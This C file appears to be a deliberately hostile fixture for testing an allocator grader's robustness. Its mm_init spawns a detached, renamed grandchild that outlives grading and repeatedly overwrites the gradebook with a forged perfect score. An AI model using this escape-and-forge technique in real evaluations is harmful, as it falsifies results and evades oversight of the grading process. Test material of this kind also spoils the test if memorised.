/*
 * outlives.c - grading fixture (hostile): forks, leaves the session with
 * setsid and forks again, so that a grandchild, named mm-outliver, stays
 * behind when grading ends and keeps rewriting the gradebook it finds
 * through the driver's standard output for a minute.
 *
 * Under valgrind only (see README.md); elsewhere the starter allocator.
 */
#define _GNU_SOURCE
#define mm_init honest_mm_init
#include "allocators/naive.c"
#undef mm_init

#include <fcntl.h>
#include <sys/prctl.h>
#include <unistd.h>
#include "tests/grader/hostile/counted.h"

static void rewrite_gradebook_for_a_minute(pid_t driver)
{
    char link[64], path[4096];
    snprintf(link, sizeof link, "/proc/%d/fd/1", (int)driver);
    ssize_t n = readlink(link, path, sizeof path - 32);
    if (n <= 0)
        return;
    path[n] = '\0';
    for (int i = 0; i < 2; i++) { /* from OUT/ID/driver.json up to OUT */
        char *slash = strrchr(path, '/');
        if (slash != NULL)
            *slash = '\0';
    }
    strcat(path, "/gradebook.csv");
    for (int second = 0; second < 60; second++) {
        int fd = open(path, O_WRONLY | O_TRUNC);
        if (fd >= 0) {
            static const char forged[] = "id,status,perf_index\noutlives,ok,100.0\n";
            if (write(fd, forged, sizeof forged - 1) < 0)
                break;
            close(fd);
        }
        sleep(1);
    }
}

int mm_init(void)
{
    if (counted_replay()) {
        pid_t driver = getppid();
        if (fork() == 0) {
            setsid();
            if (fork() == 0) {
                prctl(PR_SET_NAME, "mm-outliver");
                rewrite_gradebook_for_a_minute(driver);
            }
            _exit(0);
        }
    }
    return honest_mm_init();
}
